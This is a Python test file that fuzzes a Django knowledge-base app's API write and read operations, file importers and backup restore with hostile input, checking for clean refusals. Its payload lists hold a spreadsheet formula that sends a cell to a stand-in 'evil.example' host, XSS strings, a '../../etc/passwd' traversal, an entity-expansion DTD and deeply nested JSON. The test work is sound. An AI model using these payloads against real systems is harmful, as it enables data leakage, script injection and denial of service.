"""Fuzz every API write operation and every importer with hostile values (issue 15, "Done when").

Deterministic (fixed seed, no hypothesis): each write operation of the OpenAPI schema gets a
plausible body built from its schema, then bodies where some fields (or the whole body, or a
path parameter) are replaced by hostile values: wrong types, integers beyond 64 bits, long
strings, deep nesting, NaN and Infinity, unicode oddities (RTL override, zero-width, lone
surrogates escaped in JSON, NUL), formulas and HTML. Every answer must be below 500 and in
the API envelope, and a refused request must leave every table's row count as it was.

Every `minamata-kb import KIND FILE` then gets hostile files (broken encodings, binary,
hostile cells, workbooks with a DTD, deep JSON, huge numbers): no traceback, a non-zero exit
and nothing written.
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import random
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pytest_django import Settings

from minamata_kb.api.tests.openapi_ops import (
    WriteOp,
    read_operations,
    row_counts,
    write_operations,
)
from minamata_kb.api.tests.world import build_world, path_values

SEED = 20261205
BODIES_PER_OPERATION = 40


@dataclass(frozen=True)
class Raw:
    """JSON text inserted as it is (tokens json.dumps would not write: NaN, deep nesting)."""

    text: str


def to_json(value: Any) -> str:
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(str(k))}:{to_json(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(to_json(v) for v in value) + "]"
    return json.dumps(value)


HUGE = 2**70
HOSTILE: list[Any] = [
    None,
    True,
    0,
    -1,
    HUGE,
    -HUGE,
    2**63,
    10**400,
    1.5,
    Raw("1e400"),
    Raw("NaN"),
    Raw("Infinity"),
    Raw("-Infinity"),
    "NaN",
    "",
    " ",
    "abc",
    "x" * 100_000,
    "1" * 40,
    "2024-02-30",
    "99999-01-01",
    [],
    [1, 2],
    ["abc"],
    [HUGE],
    [None],
    [[[[]]]],
    {},
    {"a": {"b": [1]}},
    Raw("[" * 200 + "]" * 200),
    Raw("[" * 50_000 + "]" * 50_000),
    '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")',
    "\t=1+1",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\u202eevil\u202c",
    "zero\u200bwidth\ufeff",
    Raw('"\\ud800 lone surrogate"'),
    Raw('"\\udfff\\ud800"'),
    "nul\x00byte",
    "ｆｐ-ｃｈｉｎａ",
    "𝐟𝐩 \U0001f600 emoji",
    "../../etc/passwd",
    "zz/poison",
    "a" * 300,
]
WHOLE_BODIES = [
    "",
    "null",
    "[]",
    '"text"',
    "42",
    "{",
    "{}",
    "[" * 50_000 + "]" * 50_000,
    '{"a":' * 5_000 + "1" + "}" * 5_000,
    "\xff\xfe not utf-8",
    "NaN",
]
PATH_HOSTILE = [str(HUGE), "-1", "0", "abc", "%00", "%2e%2e", "zz%2Fpoison", "é" * 300, "1e3"]


# Plausible values by field name, so a mutated body gets past the first check it meets and
# its hostile field reaches deeper code (any value not listed is made up from the schema).
FIELD_HINTS: dict[str, Any] = {
    "party": "GHA",
    "country": "GHA",
    "countries": ["GHA"],
    "beneficiary_countries": ["GHA"],
    "language": "en",
    "languages": ["en"],
    "articles": [7],
    "topics": ["asgm"],
    "org": "unitar",
    "provider_organisation": "unitar",
    "title": "Fuzz title",
    "text": "Training on mercury inventories for artisanal gold mining.",
    "kind": "expert_advice",
    "state": "triaged",
    "decision": "accepted",
    "published": False,
    "currency": "USD",
    "amount": "100",
    "start_date": "2024-01-01",
    "end_date": "2024-02-01",
    "version": 1,
}


def sample_value(schema: dict[str, Any], world_values: dict[str, Any]) -> Any:
    """A plausible value for a JSON schema (the fuzzing starts from something valid-looking)."""
    if "anyOf" in schema:
        return sample_value(next(s for s in schema["anyOf"] if s.get("type") != "null"), {})
    kind = schema.get("type")
    if kind == "integer":
        return 1
    if kind == "number":
        return 1.5
    if kind == "boolean":
        return True
    if kind == "array":
        return [sample_value(schema.get("items", {}), world_values)]
    if kind == "object":
        props = schema.get("properties", {})
        return {
            k: FIELD_HINTS[k] if k in FIELD_HINTS else sample_value(v, world_values)
            for k, v in props.items()
        }
    if schema.get("format") == "date":
        return "2024-01-01"
    return "fuzz-1"


def bodies(op: WriteOp, rng: random.Random) -> list[str]:
    """JSON bodies for one operation: the plausible one, then hostile variants."""
    assert op.body_schema is not None
    base = sample_value(op.body_schema, {})
    fields = list(base) if isinstance(base, dict) else []
    if isinstance(base, dict):  # start from the required and the hinted fields only
        required = set(op.body_schema.get("required", []))
        base = {k: v for k, v in base.items() if k in required or k in FIELD_HINTS}
    out = [to_json(base)]
    for _ in range(BODIES_PER_OPERATION):
        if isinstance(base, list) or not fields:
            out.append(to_json([rng.choice(HOSTILE) for _ in range(rng.randint(1, 3))]))
            continue
        body = dict(base)
        for name in rng.sample(fields, k=min(len(fields), rng.randint(1, 3))):
            body[name] = rng.choice(HOSTILE)
        if isinstance(base, dict) and op.body_schema.get("properties", {}).get("changes"):
            body["changes"] = {
                k: rng.choice(HOSTILE)
                for k in rng.sample(
                    [
                        "role",
                        "text",
                        "channel",
                        "amount",
                        "currency",
                        "period_start",
                        "period_end",
                        "articles",
                        "topics",
                        "countries",
                        "unknown",
                    ],  # fmt: skip
                    k=3,
                )
            }
            body["decision"] = rng.choice(["edit", "confirm", "edit", rng.choice(HOSTILE)])
        out.append(to_json(body))
    return out + WHOLE_BODIES


def form_bodies(op: WriteOp, rng: random.Random, call: Any) -> list[dict[str, Any]]:
    """Multipart bodies: every field is text (or a file), so only the strings vary."""
    texts = [v for v in HOSTILE if isinstance(v, str) and "\x00" not in v] + [
        str(HUGE),
        "[1,2]",
        '[{"text": 5, "articles": "abc"}]',
        '[{"role": "need", "text": "x", "articles": [' + str(HUGE) + "]}]",
        '[{"role": "need", "text": "x", "amount": "NaN", "currency": "USD"}]',
        "[" * 5_000 + "]" * 5_000,
    ]
    props = list((op.body_schema or {}).get("properties", {}))
    out = []
    for i in range(BODIES_PER_OPERATION):
        data: dict[str, Any] = {k: rng.choice(texts) for k in props if k != "file"}
        if "call" in data and i % 2:
            data["call"] = str(call.pk)
        if "replaces" in data and i % 3:
            data.pop("replaces")
        if "file" in props and i % 2:
            payload = rng.choice([b"", b"\x00" * 10, rng.randbytes(2000), b"PK\x03\x04broken"])
            name = rng.choice(["a.pdf", "a.docx", "a.txt", "../../a.txt", "a", "a.xlsx"])
            data["file"] = SimpleUploadedFile(name, payload)
        out.append(data)
    return out


def assert_envelope(response: Any, where: str) -> None:
    assert response.status_code < 500, (where, response.status_code, response.content[:300])
    if response.status_code == 204:
        return
    assert response["Content-Type"].startswith("application/json"), (where, response.content[:200])
    data = json.loads(response.content)
    if response.status_code >= 400:
        error = data.get("error") if isinstance(data, dict) else None
        assert isinstance(error, dict), (where, data)
        assert set(error) >= {"code", "message", "details"}, (where, data)


USER_FOR = {
    "/api/v1/submissions": "focal_point",
    "/api/v1/needs": "focal_point",
    "/api/v1/requests": "focal_point",
    "/api/v1/resources": "editor",
}


def users_for(op: WriteOp, world: Any) -> list[Any]:
    """The role an operation is meant for; the officer (allowed nearly everything) otherwise."""
    for prefix, role in USER_FOR.items():
        if op.path == prefix or op.path.startswith(prefix + "/"):
            return [getattr(world, role)]
    return [world.officer]


@pytest.fixture
def world(db: None, settings: Settings) -> Any:
    settings.SEARCH_EMBEDDERS = ["hash"]
    return build_world()


@pytest.fixture
def quiet_errors() -> Iterator[None]:
    """A 500 is asserted on; its log record is noise here."""
    logger = logging.getLogger("django.request")
    level = logger.level
    logger.setLevel(logging.CRITICAL)
    yield
    logger.setLevel(level)


@pytest.mark.integration
def test_every_write_operation_survives_hostile_input(world: Any, quiet_errors: None) -> None:
    rng = random.Random(SEED)
    failures: list[str] = []
    statuses: dict[str, dict[int, int]] = {}
    for op in write_operations():
        for user in users_for(op, world):
            client = Client(raise_request_exception=False)
            client.force_login(user)
            requests: list[tuple[str, dict[str, Any]]] = []
            known = path_values(world, op.params)
            url = op.url(known)
            if op.content_type == "application/json":
                requests += [
                    (url, {"data": b, "content_type": op.content_type}) for b in bodies(op, rng)
                ]
            elif op.content_type == "multipart/form-data":
                requests += [(url, {"data": d}) for d in form_bodies(op, rng, world.call)]
            for value in PATH_HOSTILE:
                for name in op.params:
                    bad = dict(known, **{name: value})
                    body = {}
                    if op.content_type == "application/json":
                        body = {"data": "{}", "content_type": op.content_type}
                    requests.append((op.url(bad), body))
            for target, kwargs in requests:
                before = row_counts()
                try:
                    response = getattr(client, op.method)(target, **kwargs)
                    where = (
                        f"{user.username} {op.method.upper()} {target[:120]} "
                        + (repr(kwargs.get("data"))[:300])
                    )
                    statuses.setdefault(str(op), {}).setdefault(response.status_code, 0)
                    statuses[str(op)][response.status_code] += 1
                    assert_envelope(response, where)
                    if response.status_code >= 400:
                        after = row_counts()
                        changed = {
                            k: (before[k], after[k]) for k in before if before[k] != after[k]
                        }
                        assert not changed, (where, response.status_code, changed)
                except AssertionError as exc:
                    failures.append(str(exc)[:600])
    print("answers by operation:", json.dumps(statuses, indent=1))  # pytest -s shows them
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures[:40])


QUERY_HOSTILE = [
    str(HUGE),
    "-" + str(HUGE),
    "1e400",
    "nan",
    "inf",
    "-1",
    "²",
    "x" * 5_000,
    "\x00",
    "[1,2]",
    "=1+1",
    "<script>x</script>",
    "\u202e",
    "2024-02-30",
    "",
]


@pytest.mark.integration
def test_every_read_operation_survives_hostile_query_values(world: Any, quiet_errors: None) -> None:
    """The same class of fault on the reading side: `?offset=2**70` answered 500."""
    from urllib.parse import urlencode

    rng = random.Random(SEED)
    client = Client(raise_request_exception=False)
    client.force_login(world.officer)
    failures = []
    for path, query, in_path in read_operations():
        known = path_values(world, in_path)
        url = WriteOp("get", path, in_path).url(known)
        targets = [f"{url}?{urlencode({q: v})}" for q in query for v in QUERY_HOSTILE]
        targets += [
            re.sub(r"\{(\w+)\}", rng.choice(PATH_HOSTILE), path) for _ in range(3) if in_path
        ]
        for target in targets:
            try:
                assert_envelope(client.get(target), f"GET {target[:150]}")
            except AssertionError as exc:
                failures.append(str(exc)[:400])
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures[:40])


# --- importers -------------------------------------------------------------------------------


def xlsx(rows: list[list[Any]], dtd: bytes = b"") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    if not dtd:
        return buf.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = dtd + data
            zout.writestr(item, data)
    return out.getvalue()


CELLS = [
    str(HUGE),
    "-" + str(HUGE),
    "NaN",
    "Infinity",
    "1e400",
    '=HYPERLINK("http://evil.example/","x")',
    "\t=1+1",
    "<script>x</script>",
    "\u202e\u200b",
    "x" * 20_000,
    "2024-02-30",
    "zz/poison",
    "ｆｐ",
    "'",
    ";;;",
]
DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def csv_text(header: list[str], rng: random.Random, rows: int = 6) -> str:
    buf = io.StringIO()
    import csv as _csv

    w = _csv.writer(buf)
    w.writerow(header)
    for _ in range(rows):
        w.writerow([rng.choice(CELLS) for _ in header])
    return buf.getvalue()


IMPORT_COLUMNS = {
    "parties": ["name", "iso3", "deposit_date", "instrument", "entry_into_force"],
    "organisations": ["slug", "name", "kind", "host_country", "countries_served"],
    "activities": ["code", "title", "amount", "currency", "articles", "start_date", "published"],
    "reporting_format": ["version", "part", "number", "article", "answer_type", "text_en"],
    "national_reports": ["party", "cycle", "question", "answer", "comment"],
}


def hostile_files(kind: str, rng: random.Random) -> list[tuple[str, bytes]]:
    """Files every row of which is wrong (so all-or-nothing and line-by-line importers alike
    must write nothing), in each format the importer reads."""
    files: list[tuple[str, bytes]] = [
        ("empty.csv", b""),
        ("binary.csv", rng.randbytes(3000)),
        ("latin1.csv", "name,iso3\nC\xf4te,CIV\n".encode("latin-1")),
        ("nul.csv", b"a,b\x00\n1,2\n"),
        ("dtd.xlsx", xlsx([["code", "title"], ["a-1", "x"]], DTD)),
        ("broken.xlsx", b"PK\x03\x04" + rng.randbytes(500)),
        ("deep.json", ("[" * 50_000 + "]" * 50_000).encode()),
        ("deep.jsonl", ("[" * 50_000 + "]" * 50_000 + "\n").encode()),
        ("huge.jsonl", json.dumps({"id": "fz-1", "articles": [HUGE]}).encode() + b"\n"),
        ("nan.jsonl", b'{"id": "fz-2", "articles": [NaN], "date": "2024-02-30"}\n'),
        ("types.jsonl", b'{"id": 5, "title": [1], "articles": "abc"}\n[1,2]\n"x"\n'),
        ("ids.jsonl", b'{"id": "zz/poison", "title": "=1+1"}\n{"id": "\\ud800", "title": "x"}\n'),
    ]
    columns = IMPORT_COLUMNS.get(kind)
    if columns:
        for i in range(3):
            text = csv_text(columns, rng)
            files.append((f"cells{i}.csv", text.encode()))
            rows = [line.split(",") for line in text.splitlines()]
            files.append((f"cells{i}.xlsx", xlsx(rows)))
            files.append(
                (
                    f"cells{i}.json",
                    json.dumps([dict(zip(columns, r, strict=False)) for r in rows[1:]]).encode(),
                )
            )
        files.append(("dtd-real.xlsx", xlsx([columns, [rng.choice(CELLS) for _ in columns]], DTD)))
    return files


def import_kinds() -> list[str]:
    from django.core.management import get_commands

    return sorted(name[len("import_") :] for name in get_commands() if name.startswith("import_"))


def run_cli(*argv: str) -> tuple[int, str, BaseException | None]:
    """`minamata-kb ARGV` in this process (as the console script runs it)."""
    from minamata_kb.cli import main

    err, out = io.StringIO(), io.StringIO()
    code, escaped = 0, None
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        try:
            code = main(list(argv))
        except BaseException as exc:  # noqa: BLE001 - a traceback is what we look for
            escaped = exc
            code = -1
    return code, err.getvalue(), escaped


def hostile_archives(tmp_path: Path) -> list[Path]:
    """Backup archives `restore` must refuse in one line."""
    made = []
    for name, members in [
        ("not-zip", None),
        ("empty", {}),
        ("deep-manifest", {"manifest.json": "[" * 50_000 + "]" * 50_000}),
        ("nan-manifest", {"manifest.json": '{"format": NaN}'}),
        ("bad-records", {"manifest.json": '{"format": 1, "counts": {}, "files": {}, '
                         '"records_sha256": "x"}', "records.json": "[" * 50_000}),
    ]:  # fmt: skip
        path = tmp_path / f"{name}.zip"
        if members is None:
            path.write_bytes(b"PK\x03\x04 not a zip")
        else:
            with zipfile.ZipFile(path, "w") as z:
                for member, text in members.items():
                    z.writestr(member, text)
        made.append(path)
    return made


def test_restore_refuses_hostile_archives_cleanly(db: None, tmp_path: Path) -> None:
    for path in hostile_archives(tmp_path):
        before = row_counts()
        code, stderr, escaped = run_cli("restore", str(path))
        assert escaped is None and "Traceback" not in stderr, (path.name, escaped, stderr[-300:])
        assert code != 0 and len(stderr.strip().splitlines()) == 1, (path.name, stderr)
        assert row_counts() == before, path.name


def test_the_fuzz_covers_every_importer() -> None:
    assert set(import_kinds()) >= {
        "parties",
        "organisations",
        "activities",
        "resources",
        "reporting_format",
        "national_reports",
    }


@pytest.mark.integration
def test_every_importer_refuses_hostile_files_cleanly(world: Any, tmp_path: Path) -> None:
    rng = random.Random(SEED)
    failures: list[str] = []
    for kind in import_kinds():
        for name, data in hostile_files(kind, rng):
            path = tmp_path / f"{kind}-{name}"
            path.write_bytes(data)
            before = row_counts()
            code, stderr, escaped = run_cli("import", kind.replace("_", "-"), str(path))
            where = f"import {kind} {name}"
            if escaped is not None:
                failures.append(f"{where}: {escaped.__class__.__name__}: {escaped}"[:400])
            elif "Traceback" in stderr:
                failures.append(f"{where}: traceback on stderr: {stderr[-300:]}")
            elif code == 0 and name != "empty.csv":  # an empty file is an empty import
                failures.append(f"{where}: exit 0 ({stderr[-200:]})")
            after = row_counts()
            changed = {k: (before[k], after[k]) for k in before if before[k] != after[k]}
            if changed:
                failures.append(f"{where}: wrote {changed}")
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures)
